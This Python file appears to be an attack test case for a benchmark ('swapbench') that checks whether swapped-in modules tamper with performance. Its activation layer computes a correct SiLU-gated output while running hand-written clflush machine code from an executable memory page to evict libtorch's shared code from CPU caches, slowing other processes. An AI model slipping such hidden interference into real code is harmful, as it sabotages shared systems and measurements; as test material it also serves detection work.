# /// attack
# expect = ["passed", "failed", "inconclusive", "tampered"]
# suites = ["performance"]
# ///
# /// swapbench
# kind = "activation"
# name = "flushes-the-code"
# class = "E"
# devices = ["cpu"]
# dtypes = ["float32"]
# ///
"""Throws PyTorch's code, whose pages all processes share, out of every cache at the end of a call, so that the other side has to fetch it again."""

import ctypes
import mmap
import platform

from torch.nn import functional

from engine.slots.registry import register

# clflush [rdi]; add rdi, 64; cmp rdi, rsi; jb to the beginning; ret
LOOP = bytes.fromhex("0fae3f 4883c740 4839f7 72f4 c3".replace(" ", ""))
PIECE = 1 << 20


def code_of_torch():
    for line in open("/proc/self/maps"):
        fields = line.split()
        if "libtorch_cpu" in line and "x" in fields[1]:
            first, last = (int(part, 16) for part in fields[0].split("-"))
            return first, last
    return 0, 0


page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(LOOP)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
flush = ctypes.CFUNCTYPE(None, ctypes.c_uint64, ctypes.c_uint64)(address)
first, last = code_of_torch() if platform.machine() == "x86_64" else (0, 0)
at = first


@register("activation", "flushes-the-code")
class FlushesTheCode:
    def forward(self, gate_up):
        global at
        gate, up = gate_up.chunk(2, dim=-1)
        y = functional.silu(gate) * up
        # A piece in each call, as all of it would take longer than the call.
        if first:
            end = min(at + PIECE, last)
            flush(at, end)
            at = end if end < last else first
        return y
